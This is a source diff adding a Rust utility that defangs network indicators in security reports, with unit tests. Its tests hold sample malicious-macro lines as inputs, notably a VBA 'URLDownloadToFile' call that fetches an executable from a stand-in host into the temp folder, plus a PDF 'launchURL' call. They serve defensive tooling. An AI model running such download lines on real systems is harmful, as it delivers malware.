@@ -0,0 +1,192 @@
+use regex::{Captures, Regex};
+use std::sync::LazyLock;
+
+/// Rewrites network indicators so they can't be clicked or auto-linked:
+/// `https://evil.com/a` becomes `hxxps://evil[.]com/a`, `1.2.3.4` becomes
+/// `1.2.3[.]4` and `user@evil.com` becomes `user@evil[.]com`.
+pub struct Defang;
+
+// A URL with its scheme and authority captured, the domain of an email
+// address, or a bare domain or IPv4 address. The URL alternative comes first
+// so paths are left alone. Bare domains must end in a known top-level domain,
+// otherwise filenames and member accesses such as `invoice.pdf` or
+// `WScript.Shell` would match.
+static INDICATOR: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&format!(
+        r#"(?i)\b(https?|ftp)://([^\s/?#<>"']+)([^\s<>"']*)|@((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*[a-z0-9])\b|\b(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+(?:{}|{})\b|\b\d{{1,3}}(?:\.\d{{1,3}}){{3}}\b"#,
+        Defang::GENERIC_TLDS.join("|"),
+        Defang::COUNTRY_TLDS.join("|"),
+    ))
+    .unwrap()
+});
+
+// The URL and IPv4 alternatives of `INDICATOR`, the only ones safe in code.
+static CODE_INDICATOR: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(https?|ftp)://([^\s/?#<>"']+)([^\s<>"']*)|\b\d{1,3}(?:\.\d{1,3}){3}\b"#)
+        .unwrap()
+});
+
+impl Defang {
+    /// Defangs every URL, domain, IP address and email domain in `text`.
+    /// Text that is already defanged is left as it is. Code goes through
+    /// [`Self::code`] instead, a property access can look just like a domain.
+    pub fn text(text: &str) -> String {
+        INDICATOR
+            .replace_all(text, |cap: &Captures| {
+                let whole = cap.get(0).unwrap();
+                if let Some(url) = Self::url(cap) {
+                    return url;
+                }
+                if let Some(domain) = cap.get(4) {
+                    return format!("@{}", Self::last_dot(domain.as_str()));
+                }
+                // The dotted local part of an address is not an indicator.
+                if text[whole.end()..].starts_with('@') {
+                    return whole.as_str().to_string();
+                }
+                Self::last_dot(whole.as_str())
+            })
+            .into_owned()
+    }
+
+    /// Defangs only the URLs and IP addresses in `text`, for code listings
+    /// such as VBA or PDF JavaScript where a bare `name.ext` is more likely a
+    /// property access than a domain.
+    pub fn code(text: &str) -> String {
+        CODE_INDICATOR
+            .replace_all(text, |cap: &Captures| {
+                Self::url(cap).unwrap_or_else(|| Self::last_dot(&cap[0]))
+            })
+            .into_owned()
+    }
+
+    /// The defanged URL when the URL alternative of a pattern matched.
+    fn url(cap: &Captures) -> Option<String> {
+        let (scheme, authority) = (cap.get(1)?, cap.get(2)?);
+        let scheme = match scheme.as_str().to_ascii_lowercase().as_str() {
+            "http" => "hxxp",
+            "https" => "hxxps",
+            _ => "fxp",
+        };
+        Some(format!(
+            "{scheme}://{}{}",
+            Self::last_dot(authority.as_str()),
+            &cap[3]
+        ))
+    }
+
+    /// Whether `host` ends in one of the top-level domains bare domains are
+    /// recognised by.
+    pub(crate) fn has_known_tld(host: &str) -> bool {
+        let tld = host
+            .rsplit('.')
+            .next()
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        Self::GENERIC_TLDS.contains(&tld.as_str()) || Self::COUNTRY_TLDS.contains(&tld.as_str())
+    }
+
+    /// Defangs a name known to be a host, such as a sender domain, whatever
+    /// its top-level domain.
+    pub fn host(host: &str) -> String {
+        if host.contains("[.]") {
+            host.to_string()
+        } else {
+            Self::last_dot(host)
+        }
+    }
+
+    /// Brackets the last dot, which is enough to break auto-linking while
+    /// keeping the indicator readable.
+    fn last_dot(host: &str) -> String {
+        match host.rfind('.') {
+            Some(dot) => format!("{}[.]{}", &host[..dot], &host[dot + 1..]),
+            None => host.to_string(),
+        }
+    }
+}
+
+impl Defang {
+    /// Legacy generic TLDs and the newer ones common in phishing. Names that
+    /// are mostly seen as file extensions, such as `.zip` and `.mov`, are left
+    /// out.
+    const GENERIC_TLDS: [&'static str; 58] = [
+        "com", "net", "org", "edu", "gov", "mil", "int", "arpa", "info", "biz", "name", "pro",
+        "mobi", "aero", "asia", "cat", "coop", "jobs", "museum", "tel", "travel", "xxx", "app",
+        "dev", "xyz", "top", "online", "site", "shop", "store", "club", "live", "cloud", "tech",
+        "space", "website", "icu", "cyou", "buzz", "monster", "rest", "fun", "vip", "ltd", "gdn",
+        "sbs", "cfd", "bond", "lol", "quest", "email", "support", "services", "digital", "world",
+        "life", "news", "link",
+    ];
+
+    /// ISO 3166 country code TLDs, with `uk`, `eu` and `ac`.
+    const COUNTRY_TLDS: [&'static str; 245] = [
+        "ac", "ad", "ae", "af", "ag", "ai", "al", "am", "ao", "aq", "ar", "as", "at", "au", "aw",
+        "ax", "az", "ba", "bb", "bd", "be", "bf", "bg", "bh", "bi", "bj", "bm", "bn", "bo", "br",
+        "bs", "bt", "bw", "by", "bz", "ca", "cc", "cd", "cf", "cg", "ch", "ci", "ck", "cl", "cm",
+        "cn", "co", "cr", "cu", "cv", "cw", "cx", "cy", "cz", "de", "dj", "dk", "dm", "do", "dz",
+        "ec", "ee", "eg", "er", "es", "et", "eu", "fi", "fj", "fk", "fm", "fo", "fr", "ga", "gd",
+        "ge", "gf", "gg", "gh", "gi", "gl", "gm", "gn", "gp", "gq", "gr", "gs", "gt", "gu", "gw",
+        "gy", "hk", "hm", "hn", "hr", "ht", "hu", "id", "ie", "il", "im", "in", "io", "iq", "ir",
+        "is", "it", "je", "jm", "jo", "jp", "ke", "kg", "kh", "ki", "km", "kn", "kp", "kr", "kw",
+        "ky", "kz", "la", "lb", "lc", "li", "lk", "lr", "ls", "lt", "lu", "lv", "ly", "ma", "mc",
+        "md", "me", "mg", "mh", "mk", "ml", "mm", "mn", "mo", "mp", "mq", "mr", "ms", "mt", "mu",
+        "mv", "mw", "mx", "my", "mz", "na", "nc", "ne", "nf", "ng", "ni", "nl", "no", "np", "nr",
+        "nu", "nz", "om", "pa", "pe", "pf", "pg", "ph", "pk", "pl", "pm", "pn", "pr", "ps", "pt",
+        "pw", "py", "qa", "re", "ro", "rs", "ru", "rw", "sa", "sb", "sc", "sd", "se", "sg", "sh",
+        "si", "sk", "sl", "sm", "sn", "so", "sr", "ss", "st", "su", "sv", "sx", "sy", "sz", "tc",
+        "td", "tf", "tg", "th", "tj", "tk", "tl", "tm", "tn", "to", "tr", "tt", "tv", "tw", "tz",
+        "ua", "ug", "uk", "us", "uy", "uz", "va", "vc", "ve", "vg", "vi", "vn", "vu", "wf", "ws",
+        "ye", "yt", "za", "zm", "zw",
+    ];
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn indicators() {
+        assert_eq!(
+            Defang::text("see https://evil.com/a.b?x=1 now"),
+            "see hxxps://evil[.]com/a.b?x=1 now"
+        );
+        assert_eq!(
+            Defang::text("mail user.name@evil.co.uk from 10.0.0.1"),
+            "mail user.name@evil.co[.]uk from 10.0.0[.]1"
+        );
+        assert_eq!(Defang::text("evil.com.exe"), "evil[.]com.exe");
+        assert_eq!(Defang::text("<a@evil.example>"), "<a@evil[.]example>");
+        assert_eq!(Defang::text("hxxps://evil[.]com"), "hxxps://evil[.]com");
+    }
+
+    #[test]
+    fn code_and_filenames_are_not_domains() {
+        for text in [
+            "document.getElementById",
+            "CreateObject(\"WScript.Shell\")",
+            "invoice.pdf",
+            "payload.js",
+            "archive.zip",
+            "run.ps1",
+        ] {
+            assert_eq!(Defang::text(text), text);
+        }
+    }
+
+    #[test]
+    fn code_listings() {
+        assert_eq!(
+            Defang::code(r#"URLDownloadToFile 0, "http://evil.com/x.exe", Environ("TEMP")"#),
+            r#"URLDownloadToFile 0, "hxxp://evil[.]com/x.exe", Environ("TEMP")"#
+        );
+        assert_eq!(
+            Defang::code(r#"app.launchURL("https://evil.com/a", true); ws.Run("10.0.0.1")"#),
+            r#"app.launchURL("hxxps://evil[.]com/a", true); ws.Run("10.0.0[.]1")"#
+        );
+        assert_eq!(
+            Defang::code("Set sh = CreateObject(\"WScript.Shell\"): doc.save"),
+            "Set sh = CreateObject(\"WScript.Shell\"): doc.save"
+        );
+    }
+}